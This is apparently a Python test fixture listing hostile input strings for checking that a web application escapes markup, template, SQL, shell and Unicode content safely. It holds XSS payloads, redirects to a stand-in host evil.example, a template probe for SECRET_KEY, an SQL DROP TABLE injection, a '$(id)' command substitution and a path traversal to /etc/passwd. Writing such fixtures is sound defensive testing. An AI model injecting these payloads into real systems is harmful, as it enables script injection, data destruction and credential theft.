"""Texts that break what is careless: of markup, templates, JSON, SQL and characters."""

TEXTS = (
    # --- markup ---
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>go</button></form>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--", "-->", "<!-- --><script>alert(1)</script>", "<![CDATA[x]]>", "<?x ?>",
    "</div></article></aside>", "</textarea><script>alert(1)</script>",
    "</pre></details>", "</title>", "</summary>", "<plaintext>",
    "<mXSS><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # --- attributes ---
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "` onclick=alert(1)", '" hx-get="//evil.example',
    '" autofocus onfocus="alert(1)', '" id="aia" data-open="', "x\" style=\"color:red",
    # --- entities ---
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;", "&", "&;",
    # --- templates, JSON, SQL, shells ---
    "{{ 7|add:7 }}", "{% load i18n %}{% debug %}", "{# x #}", "{{ settings.SECRET_KEY }}",
    "${7*7}", "%(name)s %s %d", "{0} {name}", '{"op": "replace"}', '["remove", "aia"]',
    "'; DROP TABLE ai_assistant_run; --", "$(id)", "../../etc/passwd",
    # --- addresses ---
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example",
    # --- numbers and words that mean something elsewhere ---
    "null", "undefined", "NaN", "Infinity", "True", "0", "-1", "1e309", "[object Object]",
    # --- characters ---
    "\u202eevil\u202c", "\u2066x\u2069", "a\u200bb\ufeff", "Z\u0351\u036b\u0343",
    "\U0001f469\u200d\U0001f680\U0001f3fd", "\u0430dmin", "\ufffd\ufffe", "\u2028\u2029",
    "\uff1cscript\uff1e", "x" * 1500, "مرحبا", "田中さん", "\u00a0",
)  # fmt: skip
